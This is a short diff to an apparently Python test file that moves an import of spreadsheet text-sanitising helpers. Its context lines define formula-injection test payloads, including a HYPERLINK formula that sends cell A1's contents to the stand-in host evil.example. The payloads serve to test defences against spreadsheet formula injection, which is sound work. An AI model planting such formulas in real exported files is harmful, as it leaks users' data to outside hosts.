@@ -21,12 +21,12 @@ from areas.instrument_xlsx import export_version, import_version
 from areas.models import Question
 from assessments.evidence import evidence_upload
 from assessments.models import Status
+from core.cells import spreadsheet_text, spreadsheet_text_read
 from reports import services
 from reports.models import JobStatus
 from tests.assessments.test_evidence_files import make_pdf
 from tests.factories import AssessmentFactory, UnitFactory
 from units.models import UnitKind
-from zi_portal.cells import spreadsheet_text, spreadsheet_text_read
 
 HYPERLINK = '=HYPERLINK("http://evil.example/?d="&A1,"Klik")'
 PAYLOADS = [HYPERLINK, "+1+1", "-2+3", "@SUM(1)", "\t=1", "\r=1"]
